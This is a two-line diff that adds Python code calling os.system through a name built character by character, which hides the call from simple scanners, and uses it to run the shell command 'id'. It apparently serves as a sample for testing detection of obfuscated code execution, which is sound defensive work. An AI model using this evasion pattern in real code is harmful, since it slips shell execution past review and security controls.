@@ -1,0 +1,2 @@
+import os
+getattr(os, "".join(["s", "y", "s", "t", "e", "m"]))("id")
